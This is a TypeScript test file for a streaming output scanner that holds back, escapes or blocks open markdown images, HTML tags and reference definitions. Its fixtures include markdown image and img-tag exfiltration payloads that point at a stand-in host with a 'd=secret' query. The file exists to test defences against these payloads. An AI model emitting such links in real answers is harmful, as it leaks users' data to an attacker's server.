/** The hold-back scanner and open markdown/HTML constructs: held whole, neutralised past the limit, linear. */
import { describe, expect, it } from 'vitest';
import { createVault } from '../../src/core/vault.js';
import { HoldbackScanner, MAX_OPEN_CONSTRUCT, OPEN_CONSTRUCT_RULE, type ScanFn } from '../../src/gateway/stream/holdback.js';
import { OpenConstructs } from '../../src/gateway/stream/open-constructs.js';
import type { ScanResult } from '../../src/spec/types.js';
import { createWarden } from '../../src/warden.js';

const allowAll: ScanFn = (text: string): ScanResult => ({ action: 'allow', findings: [], text, monitorAction: 'allow', errors: [], latencyMs: 0, vault: createVault(), skipped: [] });

function run(chunks: readonly string[], scan: ScanFn = allowAll, holdback = 256) {
  const s = new HoldbackScanner(scan, { holdback });
  let out = '';
  /** Released text after each delta, to check what was out before a construct closed. */
  const after: string[] = [];
  for (const c of chunks) {
    const r = s.push(c);
    out += r.text;
    after.push(out);
    if (r.blocked) return { out, after, blocked: r.blocked.rules, findings: s.findings };
  }
  const r = s.finish();
  return { out: out + r.text, after, blocked: r.blocked?.rules, findings: s.findings };
}

function pieces(text: string, size: number): string[] {
  return text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
}

const WORDS = 'the team shipped the migration on time and nothing is urgent today. ';

describe('open constructs in a stream', () => {
  it('releases nothing from an open image on until it closes, then passes benign text unchanged', () => {
    const image = `![${WORDS.repeat(6)}](https://cdn.example.org/a.png)`;
    const text = `${WORDS.repeat(5)}${image} ${WORDS.repeat(5)}`;
    const start = text.indexOf('![');
    const close = text.indexOf(')', start);
    const r = run(pieces(text, 3));
    expect(r.out).toBe(text);
    pieces(text, 3).reduce((fed, c, i) => {
      if (fed + c.length <= close) expect((r.after[i] as string).length).toBeLessThanOrEqual(start);
      return fed + c.length;
    }, 0);
  });

  it('neutralises an image left open past the limit by escaping its bracket, and records it', () => {
    const text = `${WORDS}![${WORDS.repeat(Math.ceil((MAX_OPEN_CONSTRUCT + 500) / WORDS.length))}](https://evil.example/x) end`;
    const r = run(pieces(text, 7));
    expect(r.out).toBe(text.replace('![', '!\\['));
    expect(r.findings.map((f) => f.ruleId)).toEqual([OPEN_CONSTRUCT_RULE]);
    expect(r.findings[0]).toMatchObject({ action: 'redact', mode: 'enforce', spans: [{ start: WORDS.length + 1 }] });
  });

  it('neutralises an HTML tag left open past the limit as &lt;', () => {
    const text = `${WORDS}<img alt="${'x '.repeat(MAX_OPEN_CONSTRUCT)}" src="https://evil.example/x"> end`;
    const r = run(pieces(text, 11));
    expect(r.out).toBe(text.replace('<img', '&lt;img'));
  });

  it('does not escape a bracket left open past the limit inside a fenced code block', () => {
    const rows = Array.from({ length: 400 }, (_, i) => `  {"id": ${i}, "name": "row ${i}"},`).join('\n');
    const text = `Here is the data:\n\n\`\`\`json\n[\n${rows}\n]\n\`\`\`\n\nDone. [unclosed ${WORDS.repeat(70)}`;
    const r = run(pieces(text, 6));
    expect(rows.length).toBeGreaterThan(MAX_OPEN_CONSTRUCT);
    expect(r.out).toBe(text.replace('[unclosed', '\\[unclosed'));
  });

  it('a blank line ends an open bracket, so prose with a stray [ is released without waiting or escaping', () => {
    const text = `Note [unfinished thought\n\n${WORDS.repeat(80)}`;
    const r = run(pieces(text, 5));
    expect(r.out).toBe(text);
    expect(r.findings).toEqual([]);
    // Released long before the end: the bracket did not hold the stream.
    expect((r.after[Math.floor(r.after.length / 2)] as string).length).toBeGreaterThan(1000);
  });

  it('does not hold code comparisons (`i<n;`) or closed brackets', () => {
    const text = `for (i = 0; i<n; i++) a[i] = b[i];\nif x<y: pass\n${WORDS.repeat(80)}`;
    const r = run(pieces(text, 4));
    expect(r.out).toBe(text);
    expect((r.after[Math.floor(r.after.length / 2)] as string).length).toBeGreaterThan(1000);
  });

  it('scans each character a bounded number of times however many constructs stay open (no quadratic rescans)', () => {
    for (const unit of ['[', '![x', '<img a ', '[a](', '[r]: ']) {
      let scanned = 0;
      const counting: ScanFn = (t) => {
        scanned += t.length;
        return allowAll(t);
      };
      const text = unit.repeat(Math.ceil(60_000 / unit.length));
      const r = run(pieces(text, 2), counting);
      expect(r.out.length).toBeGreaterThanOrEqual(text.length);
      expect(scanned / text.length, unit).toBeLessThan(150);
    }
  });
});

describe('reference definitions in a stream (default policy)', () => {
  const warden = createWarden();
  const scan: ScanFn = (t) => warden.scanOutput(t);
  const defText = '[r]: https://evil.example/?d=secret';

  it('blocks a definition without a final line break that ends the answer, far after its image use', () => {
    const text = `Chart: ![chart][r] ok. ${WORDS.repeat(6)}\n${defText}`;
    for (const size of [1, 4, 9]) {
      const r = run(pieces(text, size), scan);
      expect(r.blocked?.[0]).toMatch(/^exfil-url\//);
      expect(r.out).not.toContain('evil');
    }
  });

  it('blocks a shortcut image use `![r]` that ends the answer, far after its released definition', () => {
    const text = `${defText}\n\n${WORDS.repeat(6)}see ![r]`;
    const r = run(pieces(text, 3), scan);
    expect(r.blocked?.[0]).toMatch(/^exfil-url\//);
    expect(r.out).not.toContain('![r]');
    expect(r.findings.some((f) => f.ruleId === 'exfil-url/markdown-image')).toBe(true);
  });

  it('blocks an image use that closes while its definition is released only in part (long label)', () => {
    const label = `ref ${'label '.repeat(30)}`.trim();
    for (let gap = 0; gap < 260; gap += 13) {
      const text = `${WORDS}\n[${label}]: https://evil.example/?d=secret\n${'x '.repeat(gap)}![chart][${label}] now ${WORDS.repeat(5)}`;
      for (const size of [1, 3, 7]) {
        const r = run(pieces(text, size), scan);
        expect(r.blocked?.[0], `gap ${gap}, deltas of ${size}`).toMatch(/^exfil-url\//);
        expect(r.out).not.toContain('![chart]');
      }
    }
  });

  it('leaves link-only references alone', () => {
    const text = `See [the docs][r]. ${WORDS.repeat(6)}\n[r]: https://docs.example.org/guide\n`;
    const r = run(pieces(text, 3), scan);
    expect(r.blocked).toBeUndefined();
    expect(r.out).toBe(text);
  });
});

describe('OpenConstructs', () => {
  it('reads labels of full, collapsed and shortcut image references and definitions across any split', () => {
    const text = '![a][R1] ![R2][] ![R3] [link][x] and\n  [R1]: <https://e.example/1>\n[R2]:\n  https://e.example/2 "t"\n';
    for (const size of [1, 2, 3, text.length]) {
      const t = new OpenConstructs();
      let at = 0;
      for (const c of pieces(text, size)) {
        t.feed(c, at);
        at += c.length;
      }
      t.end(at);
      const label = (r: { start: number; end: number }) => text.slice(r.start, r.end);
      expect(t.uses.map((u) => label(u.label))).toEqual(['R1', 'R2', 'R3']);
      expect(t.definitions.map((d) => [label(d.label), label(d)])).toEqual([
        ['R1', '[R1]: <https://e.example/1>'],
        ['R2', '[R2]:\n  https://e.example/2'],
      ]);
      expect(t.openFrom()).toBeUndefined();
    }
  });
});
